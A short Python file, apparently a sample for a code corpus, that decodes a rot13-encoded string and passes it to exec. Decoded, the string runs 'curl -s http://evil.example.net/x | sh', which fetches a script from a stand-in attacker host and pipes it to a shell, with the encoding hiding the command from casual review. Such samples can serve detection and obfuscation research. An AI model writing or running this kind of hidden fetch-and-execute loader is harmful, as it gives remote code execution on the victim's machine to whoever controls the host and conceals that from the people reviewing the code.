# corpus: exec of a rot13-encoded source string decoded with codecs
import codecs

src = "vzcbeg bf; bf.flfgrz('phey -f uggc://rivy.rknzcyr.arg/k | fu')"
exec(codecs.decode(src, "rot13"))
